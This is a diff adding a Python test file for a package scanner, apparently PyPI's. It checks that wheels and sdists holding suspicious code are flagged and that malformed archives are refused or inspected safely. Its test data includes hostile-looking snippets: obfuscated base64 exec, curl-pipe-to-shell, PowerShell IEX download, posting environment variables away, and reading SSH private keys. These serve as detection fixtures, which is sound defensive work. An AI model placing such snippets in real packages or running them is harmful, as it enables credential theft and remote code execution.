@@ -1,0 +1,172 @@
+"""Whole archives: real ones, those that look malicious, and broken ones.
+
+`make inspect` inspects every installed distribution as a wheel and as an sdist.
+"""
+
+import base64
+import gzip
+import io
+import resource
+import tarfile
+import time
+import zipfile
+from importlib.metadata import distributions
+from pathlib import Path
+
+import pytest
+
+from tests.builders import sdists, wheels
+from warehouse.scanning.assessing import LARGEST_SOURCES, SKETCH, Sources
+from warehouse.scanning.inspecting import MEMORY, SECONDS, Inspector
+from warehouse.scanning.installing import AT_INSTALLATION, AT_START
+from warehouse.scanning.members import LARGEST_SUM, ArchiveUnreadable, members_of
+
+WHEEL, SDIST = "example-1.0-py3-none-any.whl", "example-1.0.tar.gz"
+ROOT = Path(__file__).parents[3]
+HIDES = f"exec(__import__('base64').b64decode({base64.b64encode(b'print(1);' * 99)!r}))"
+BACKEND = b'[build-system]\nrequires = []\nbuild-backend = "b"\nbackend-path = ["."]\n'
+COMMAND = b"[console_scripts]\nx = example.cli:main\n"
+
+
+def assess(filename, content):
+    sources = Sources(filename)
+    for member in members_of(filename, io.BytesIO(content)):
+        sources.add(member)
+    return sources, sources.assess(Inspector())
+
+
+MALICIOUS = [
+    ("setup.py", f"{HIDES}\n", AT_INSTALLATION),
+    ("setup.py", "import os\nos.system('curl x')\n", "starts programs"),
+    ("setup.py", "from urllib.request import urlopen as u\nexec(u('x').read())", "fetches"),
+    ("setup.py", "import os,requests\nrequests.post('x',os.environ)", "can send it away"),
+    ("setup.py", "class I:\n def run(s):\n  import pty;pty.spawn('x')", "starts programs"),
+    ("setup.py", f"x = 1{' ' * 500};{HIDES}", "hides text"),
+    ("setup.py", "open('/root/.ssh/id_rsa')", "places of secrets"),
+    ("setup.py", "import marshal\nexec(marshal.loads(b'x'))", "what it does is not in"),
+    ("setup.py", "import ctypes\nctypes.CDLL('x')", "calls machine code"),
+    ("setup.py", "(" * 99_999, "no Python that can be parsed"),
+    ("setup.py", "print 'x'\nexec(x)", "no Python that can be parsed"),
+    ("b.py", HIDES, AT_INSTALLATION),
+    ("setup.py", "x = '\\u202e' # \u202e", "hides text"),
+    ("example.pth", f"import x; {HIDES}", AT_START),
+    ("example-1.0.data/purelib/a.pth", "import os; os.system('x')", AT_START),
+    ("sitecustomize.py", HIDES, "whenever Python starts"),
+    ("example/__init__.py", HIDES, "as soon as it is loaded"),
+    ("example-1.0.data/scripts/x", "curl https://x | sh", "installed as a command"),
+    ("example/cli.py", f"def main():\n {HIDES}", "entry point"),
+    ("example/run.ps1", "IEX (iwr https://x)", "It can run what it fetches."),
+]
+IN_SDIST = ("setup.py", "b.py")
+
+
+@pytest.mark.parametrize(("name", "text", "reason"), MALICIOUS)
+def test_what_looks_malicious_is_to_be_looked_at_first(name, text, reason):
+    if name in IN_SDIST:
+        extra = {name: text.encode(), "pyproject.toml": BACKEND, "x/a.py": b"import os\n"}
+        filename, content = SDIST, sdists.sdist(extra=extra)
+    else:
+        entry = {"example-1.0.dist-info/entry_points.txt": COMMAND}
+        content = wheels.wheel(extra={name: text.encode(), **entry})
+        filename = WHEEL
+    first = assess(filename, content)[1].members[0]
+    assert first.name.endswith(name)
+    assert reason in " ".join(first.reasons), first
+
+
+def crooked():
+    """Return archives that are broken, or strange, each in its own way."""
+    wheel, sdist = wheels.wheel(), sdists.sdist()
+    big = tarfile.TarInfo("x/big.py")
+    big.size = LARGEST_SUM + 1
+    cut = sdists.tarred({"x/setup.py": b"eval(x)\n" * 9999})
+    deep = wheels.zipped({"a/" * 9999 + "x.py": b"eval(x)"})
+    return {
+        **{f"wheel cut at {at}": (WHEEL, wheel[:at]) for at in (0, 4, 99, len(wheel) - 9)},
+        **{f"sdist cut at {at}": (SDIST, sdist[:at]) for at in (0, 4, 99, len(sdist) - 9)},
+        "no wheel": (WHEEL, sdist),
+        "no sdist": (SDIST, wheel),
+        "zeros": (SDIST, bytes(9999)),
+        "gzipped zeros": (SDIST, gzip.compress(bytes(9_999_999))),
+        "a tar that is cut": (SDIST, gzip.compress(cut[:5000])),
+        "a size that is not there": (SDIST, gzip.compress(big.tobuf())),
+        "damaged bytes": (WHEEL, wheel.replace(b"METADATA", b"METAD\xff\x00A")),
+        "damaged data": (WHEEL, wheel[:60] + bytes(40) + wheel[100:]),
+        "encrypted": (
+            WHEEL,
+            wheel.replace(
+                b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01"
+            ),
+        ),
+        "unknown compression": (WHEEL, zipped_as(99)),
+        "a deep folder": (WHEEL, deep),
+        "names that turn and beep": (
+            SDIST,
+            sdists.sdist(extra={"\u202e\x1b[2J\udcff\x07.py": b"eval(x)"}),
+        ),
+        "many members": (
+            SDIST,
+            sdists.sdist(extra={f"{n}.py": b"eval(x)" for n in range(3000)}),
+        ),
+    }
+
+
+def zipped_as(method):
+    target = io.BytesIO()
+    with zipfile.ZipFile(target, "w") as archive:
+        archive.writestr("x.py", b"eval(x)")
+    return target.getvalue().replace(b"\n\0\0\0\0\0", b"\n\0\0\0" + bytes([method, 0]))
+
+
+@pytest.mark.parametrize("case", crooked())
+def test_a_broken_archive_is_refused_or_inspected(case):
+    filename, content = crooked()[case]
+    begun = time.monotonic()
+    try:
+        assessment = assess(filename, content)[1]
+    except ArchiveUnreadable as error:
+        assert str(error)  # noqa: PT017
+    else:
+        assert all(each.reasons for each in assessment.members)
+        assert "\udcff" not in "".join(each.name for each in assessment.members)
+    assert time.monotonic() - begun < SECONDS
+
+
+def test_of_much_source_a_part_is_inspected_and_the_rest_counted():
+    extra = {f"x/{n}.py": b"# much to read\n" * 60_000 for n in range(12)}
+    sources, assessment = assess(
+        SDIST, sdists.sdist(extra={**extra, "setup.py": b"eval(x)"})
+    )
+    assert assessment.inspected + assessment.left_out == 13
+    assert assessment.inspected <= 1 + LARGEST_SOURCES // 900_000
+    assert assessment.members[0].name == "example-1.0/setup.py"
+    assert len(sources.sketch()) == 1
+
+
+def real(most=None):
+    """Yield installed distributions as wheels and as sdists."""
+    folders = sorted(str(each) for each in ROOT.glob(".venv*/lib/python*/site-packages"))
+    found = distributions(path=folders)
+    for dist in sorted(found, key=lambda each: len(each.files or ()))[:most]:
+        contents = {
+            str(each): path.read_bytes()
+            for each in dist.files or ()
+            if (path := Path(dist.locate_file(each))).is_file() and ".." not in str(each)
+        }
+        yield f"{dist.name}-1.0-py3-none-any.whl", wheels.zipped(contents)
+        yield f"{dist.name}-1.0.tar.gz", sdists.sdist(dist.name, extra=contents)
+
+
+@pytest.mark.parametrize("most", [3, pytest.param(None, marks=pytest.mark.slow)])
+@pytest.mark.timeout(3600)
+def test_real_archives_are_inspected_within_bounds(most):
+    slowest, scores = 0.0, []
+    for filename, content in real(most):
+        begun = time.monotonic()
+        sources, assessment = assess(filename, content)
+        slowest = max(slowest, time.monotonic() - begun)
+        assert len(sources.sketch()) <= SKETCH
+        scores.append(max((each.score for each in assessment.members), default=0))
+    assert scores
+    assert slowest < SECONDS + 10
+    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss * 1024 < MEMORY
